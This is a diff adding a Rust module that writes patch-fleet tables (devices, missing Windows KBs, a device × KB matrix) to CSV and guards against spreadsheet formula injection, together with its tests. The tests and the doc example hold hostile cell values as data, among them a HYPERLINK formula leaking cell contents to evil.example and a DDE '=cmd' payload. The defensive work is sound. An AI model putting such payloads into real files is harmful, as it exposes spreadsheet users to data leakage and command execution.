@@ -1,1 +1,374 @@
-//! (being written)
+//! CSV exports of the fleet tables, the device × KB matrix and one device's missing KBs.
+//!
+//! RFC 4180 (comma, `"` quoting, CRLF line ends), UTF-8 without a byte-order mark: the
+//! download code prepends one if a spreadsheet needs it. Every cell that a spreadsheet would
+//! read as a formula (first character `=`, `+`, `-`, `@`, tab or carriage return) gets a
+//! leading `'`, because device names, update names and product names come from the API and
+//! may be hostile.
+//!
+//! ```
+//! use kbwatch_core::fleet::csv_export::device_kbs_csv;
+//! use kbwatch_core::MissingKb;
+//!
+//! let kb = MissingKb {
+//!     id: "4540673".into(),
+//!     name: Some("=HYPERLINK(\"http://evil\")".into()),
+//!     products: vec!["windows_10".into()],
+//!     url: None,
+//!     machine_missed_on: Some(1),
+//!     cve_addressed: Some(97),
+//! };
+//! let csv = device_kbs_csv(&[kb]);
+//! assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil\"\")\""));
+//! ```
+
+use crate::fleet::aggregate::{FleetAggregate, FleetDevice, FleetKb, FleetKbSortKey};
+use crate::kb::MissingKb;
+use crate::sort::{Sort, SortDirection};
+
+/// Product names joined in a cell.
+const PRODUCT_SEPARATOR: &str = "; ";
+
+/// The per-KB table: KB, Update, Products, Devices missing, CVEs addressed, Catalog URL.
+pub fn kbs_csv(kbs: &[&FleetKb]) -> String {
+    write_csv(
+        &[
+            "KB",
+            "Update",
+            "Products",
+            "Devices missing",
+            "CVEs addressed",
+            "Catalog URL",
+        ],
+        kbs.iter().map(|kb| {
+            vec![
+                kb.label.clone(),
+                kb.name.clone().unwrap_or_default(),
+                kb.product_labels().join(PRODUCT_SEPARATOR),
+                kb.device_count().to_string(),
+                kb.cves.to_string(),
+                kb.catalog_url.clone().unwrap_or_default(),
+            ]
+        }),
+    )
+}
+
+/// The per-device table: Device, Device ID, Missing KBs, CVEs addressable, Oldest missing
+/// update ("2020-03", empty when no missing update carries a date).
+pub fn devices_csv(devices: &[&FleetDevice]) -> String {
+    write_csv(
+        &[
+            "Device",
+            "Device ID",
+            "Missing KBs",
+            "CVEs addressable",
+            "Oldest missing update",
+        ],
+        devices.iter().map(|d| {
+            vec![
+                d.name.clone(),
+                d.id.to_string(),
+                d.missing.to_string(),
+                d.cves.to_string(),
+                d.oldest_update.map(|m| m.to_string()).unwrap_or_default(),
+            ]
+        }),
+    )
+}
+
+/// The device × KB matrix: one row per device (by name, then ID), one column per KB (most
+/// devices first, as the per-KB table's default order), `1` where the device misses the KB.
+pub fn matrix_csv(fleet: &FleetAggregate) -> String {
+    let columns = fleet.kb_rows(
+        &Default::default(),
+        Sort::new(FleetKbSortKey::Devices, SortDirection::Descending),
+    );
+    let mut devices: Vec<(String, &FleetDevice)> = fleet
+        .devices()
+        .map(|d| (d.name.to_lowercase(), d))
+        .collect();
+    devices.sort_by(|(a_name, a), (b_name, b)| a_name.cmp(b_name).then_with(|| a.id.cmp(&b.id)));
+
+    let mut header = vec!["Device", "Device ID"];
+    header.extend(columns.iter().map(|kb| kb.label.as_str()));
+    write_csv(
+        &header,
+        devices.iter().map(|(_, d)| {
+            let mut row: Vec<&str> = Vec::with_capacity(columns.len() + 2);
+            row.push(&d.name);
+            row.push(d.id.as_str());
+            // `kb_ids` is sorted: a binary search per cell keeps 5,000 × 400 cells fast.
+            row.extend(columns.iter().map(|kb| {
+                if d.kb_ids.binary_search(&kb.id).is_ok() {
+                    "1"
+                } else {
+                    ""
+                }
+            }));
+            row
+        }),
+    )
+}
+
+/// One device's missing KBs (the device view): KB, Update, Products, CVEs addressed, Catalog
+/// URL, in the order given.
+pub fn device_kbs_csv(kbs: &[MissingKb]) -> String {
+    write_csv(
+        &["KB", "Update", "Products", "CVEs addressed", "Catalog URL"],
+        kbs.iter().map(|kb| {
+            vec![
+                kb.label(),
+                kb.name.clone().unwrap_or_default(),
+                kb.product_labels().join(PRODUCT_SEPARATOR),
+                kb.cves().to_string(),
+                kb.catalog_url().unwrap_or_default(),
+            ]
+        }),
+    )
+}
+
+/// The cell as written: a `'` in front of anything a spreadsheet would evaluate.
+pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// The one CSV writer: header plus rows, every cell neutralised.
+fn write_csv<R, C>(header: &[&str], rows: impl IntoIterator<Item = R>) -> String
+where
+    R: IntoIterator<Item = C>,
+    C: AsRef<str>,
+{
+    let mut writer = csv::WriterBuilder::new()
+        .terminator(csv::Terminator::CRLF)
+        .from_writer(Vec::new());
+    // Writing to memory cannot fail; should it ever, the export ends with what was written
+    // instead of panicking.
+    let _ = write_record(&mut writer, header.iter()).and_then(|()| {
+        rows.into_iter()
+            .try_for_each(|row| write_record(&mut writer, row))
+    });
+    let bytes = match writer.into_inner() {
+        Ok(bytes) => bytes,
+        Err(e) => e.into_inner().get_ref().clone(),
+    };
+    String::from_utf8(bytes).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
+}
+
+fn write_record<C: AsRef<str>>(
+    writer: &mut csv::Writer<Vec<u8>>,
+    cells: impl IntoIterator<Item = C>,
+) -> csv::Result<()> {
+    for cell in cells {
+        writer.write_field(neutralise(cell.as_ref()).as_bytes())?;
+    }
+    writer.write_record(std::iter::empty::<&[u8]>())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::fleet::aggregate::tests::{fleet, id, kb};
+    use crate::fleet::aggregate::{FleetDeviceFilter, FleetKbFilter};
+    use proptest::prelude::*;
+
+    const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+    fn parse(csv: &str) -> Vec<Vec<String>> {
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(csv.as_bytes())
+            .records()
+            .map(|r| r.expect("valid CSV").iter().map(str::to_owned).collect())
+            .collect()
+    }
+
+    #[test]
+    fn kbs_table_columns_and_values() {
+        let f = fleet();
+        let rows = f.kb_rows(&FleetKbFilter::default(), Sort::default());
+        let csv = kbs_csv(&rows);
+        assert!(csv.ends_with("\r\n"));
+        let table = parse(&csv);
+        assert_eq!(
+            table[0],
+            [
+                "KB",
+                "Update",
+                "Products",
+                "Devices missing",
+                "CVEs addressed",
+                "Catalog URL"
+            ]
+        );
+        assert_eq!(
+            table[1],
+            [
+                "KB4540673",
+                "March 2020 Security Updates",
+                "Microsoft Edge; Windows 10",
+                "2",
+                "97",
+                "https://catalog.update.microsoft.com/v7/site/Search.aspx?q=KB4540673"
+            ]
+        );
+        assert_eq!(table.len(), 4);
+    }
+
+    #[test]
+    fn devices_table_columns_and_values() {
+        let f = fleet();
+        let rows = f.device_rows(&FleetDeviceFilter::default(), Sort::default());
+        let table = parse(&devices_csv(&rows));
+        assert_eq!(
+            table[0],
+            [
+                "Device",
+                "Device ID",
+                "Missing KBs",
+                "CVEs addressable",
+                "Oldest missing update"
+            ]
+        );
+        assert_eq!(table[1], ["alpha", id(1).as_str(), "2", "109", "2020-03"]);
+        assert_eq!(table[4], ["delta", id(4).as_str(), "0", "0", ""]);
+    }
+
+    #[test]
+    fn matrix_marks_missing_pairs() {
+        let table = parse(&matrix_csv(&fleet()));
+        assert_eq!(
+            table[0],
+            ["Device", "Device ID", "KB4540673", "KB5044285", "KB4552931"]
+        );
+        let rows: Vec<Vec<&str>> = table[1..]
+            .iter()
+            .map(|r| r.iter().map(String::as_str).collect())
+            .collect();
+        assert_eq!(
+            rows,
+            [
+                vec!["alpha", id(1).as_str(), "1", "1", ""],
+                vec!["Beta", id(2).as_str(), "1", "", "1"],
+                vec!["delta", id(4).as_str(), "", "", ""],
+                vec!["gamma", id(3).as_str(), "", "1", ""],
+            ]
+        );
+        assert_eq!(
+            parse(&matrix_csv(&FleetAggregate::new())),
+            [["Device", "Device ID"]]
+        );
+    }
+
+    #[test]
+    fn device_kbs_table() {
+        let mut odd = kb("<script>", "", &[], 0);
+        odd.name = None;
+        let table = parse(&device_kbs_csv(&[
+            kb(
+                "5044285",
+                "Oct, \"big\"\nupdate",
+                &["windows_11", ".net_framework"],
+                12,
+            ),
+            odd,
+        ]));
+        assert_eq!(
+            table[0],
+            ["KB", "Update", "Products", "CVEs addressed", "Catalog URL"]
+        );
+        assert_eq!(
+            table[1],
+            [
+                "KB5044285",
+                "Oct, \"big\"\nupdate",
+                "Windows 11; .NET Framework",
+                "12",
+                "https://catalog.update.microsoft.com/v7/site/Search.aspx?q=KB5044285"
+            ]
+        );
+        assert_eq!(table[2], ["<script>", "", "", "0", ""]);
+    }
+
+    #[test]
+    fn hostile_cells_are_neutralised_and_quoted() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+            "-2+3",
+            "+1",
+            "@SUM(A1:A9)",
+            "\t=1",
+            "\r=1",
+            "=cmd|' /C calc'!A0",
+        ];
+        let mut f = FleetAggregate::new();
+        for (n, text) in hostile.iter().enumerate() {
+            let n = n as u32 + 1;
+            f.add_device_named(id(n), *text, &[kb(text, text, &[text], n)]);
+        }
+        let kb_rows = f.kb_rows(&FleetKbFilter::default(), Sort::default());
+        let device_rows = f.device_rows(&FleetDeviceFilter::default(), Sort::default());
+        let raw_kbs: Vec<MissingKb> = hostile.iter().map(|t| kb(t, t, &[t], 1)).collect();
+        for csv in [
+            kbs_csv(&kb_rows),
+            devices_csv(&device_rows),
+            matrix_csv(&f),
+            device_kbs_csv(&raw_kbs),
+        ] {
+            let table = parse(&csv);
+            for cell in table.iter().flatten() {
+                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} in {csv}");
+            }
+            let cells: Vec<&String> = table.iter().flatten().collect();
+            assert!(cells.iter().any(|c| c.as_str() == "'-2+3"), "{csv}");
+            assert!(
+                cells.iter().any(|c| c.starts_with("'=HYPERLINK(\"http")),
+                "{csv}"
+            );
+        }
+        assert_eq!(neutralise("@SUM"), "'@SUM");
+        assert_eq!(neutralise("KB1"), "KB1");
+        assert_eq!(neutralise(""), "");
+        // The quoting itself: a quote inside a cell is doubled, the cell is wrapped.
+        assert!(device_kbs_csv(&raw_kbs)
+            .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
+    }
+
+    proptest! {
+        #[test]
+        fn no_cell_ever_starts_a_formula(
+            names in prop::collection::vec("[=+\\-@\t\r\n\",; a-zA-Z0-9]{0,12}", 1..8),
+        ) {
+            let mut f = FleetAggregate::new();
+            let kbs: Vec<MissingKb> = names.iter().map(|n| kb(n, n, &[n.as_str(), "edge"], 3)).collect();
+            let kbs: Vec<MissingKb> = kbs.into_iter().filter(|k| !k.id.trim().is_empty()).collect();
+            for (i, name) in names.iter().enumerate() {
+                f.add_device_named(id(i as u32), name.as_str(), &kbs);
+            }
+            let kb_rows = f.kb_rows(&FleetKbFilter::default(), Sort::default());
+            let device_rows = f.device_rows(&FleetDeviceFilter::default(), Sort::default());
+            for csv in [
+                kbs_csv(&kb_rows),
+                devices_csv(&device_rows),
+                matrix_csv(&f),
+                device_kbs_csv(&kbs),
+            ] {
+                let table = parse(&csv);
+                for cell in table.iter().flatten() {
+                    prop_assert!(!cell.starts_with(FORMULA_STARTS), "{:?}", cell);
+                }
+            }
+            // Names survive the round trip, with at most a leading `'`.
+            let table = parse(&devices_csv(&device_rows));
+            for (row, device) in table[1..].iter().zip(&device_rows) {
+                let cell = &row[0];
+                let quoted = format!("'{}", device.name);
+                prop_assert!(cell == &device.name || *cell == quoted, "{:?}", cell);
+            }
+        }
+    }
+}
